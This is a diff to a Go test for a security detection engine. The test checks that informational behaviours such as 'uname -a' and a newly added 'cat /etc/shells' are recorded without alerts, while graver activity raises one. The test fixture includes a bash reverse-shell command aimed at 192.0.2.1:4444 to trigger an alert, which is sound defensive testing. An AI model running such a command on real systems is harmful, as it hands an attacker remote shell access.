@@ -13,8 +13,8 @@ import (
 	"github.com/bulwarkhq/bulwark/event"
 )
 
-// What an informational rule finds is recorded and raises no alert; what is
-// graver raises one.
+// What an informational rule finds is recorded and raises no alert, unless the
+// rule says that it is rare; what is graver raises one.
 func TestBehaviorsAreNoAlerts(t *testing.T) {
 	engine := detect.New(detect.Options{})
 	if rep := engine.Load(detect.Source{Name: "builtin", FS: rules.FS(), Builtin: true}); len(rep.Problems) > 0 {
@@ -31,23 +31,24 @@ func TestBehaviorsAreNoAlerts(t *testing.T) {
 			s.Ready()
 			s.Emit(run(4_000_002, "/usr/bin/uname", "uname -a"), process.Image{})
 			s.Emit(run(4_000_002, "/usr/bin/uname", "uname -a"), process.Image{})
+			s.Emit(run(4_000_004, "/usr/bin/cat", "cat /etc/shells"), process.Image{})
 			s.Emit(run(4_000_003, "/usr/bin/bash", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), process.Image{})
 			<-ctx.Done()
 			return nil
 		}}},
 	}
 	stop := start(t, p)
-	r.wait(t, "the last event and its alert", func() bool { return len(r.events) == 3 && len(r.alerts) > 0 })
+	r.wait(t, "the last event and its alert", func() bool { return len(r.events) == 4 && len(r.alerts) > 1 })
 	stop()
-	if len(behaviors.events) != 1 || behaviors.events[0].Action != "SystemInformation" || behaviors.events[0].Class != event.ClassBehavior || behaviors.events[0].ReportID != 1 {
+	if len(behaviors.events) != 3 || behaviors.events[0].Action != "SystemInformation" || behaviors.events[0].Class != event.ClassBehavior || behaviors.events[0].ReportID != 1 {
 		t.Errorf("behaviours: %+v", behaviors.events)
 	}
 	for _, a := range r.alerts {
-		if a.Severity == event.SeverityInformational || a.Process.PID != 4_000_003 {
+		if (a.Severity == event.SeverityInformational) != (a.Process.PID == 4_000_004) || a.Process.PID < 4_000_003 {
 			t.Errorf("alert %s about %+v", a.Title, a.Process)
 		}
 	}
-	if st := engine.BehaviorStats(); st != (detect.BehaviorStats{Recorded: 1, Repeated: 1}) {
+	if st := engine.BehaviorStats(); st != (detect.BehaviorStats{Recorded: 3, Repeated: 1}) {
 		t.Errorf("%+v", st)
 	}
 }
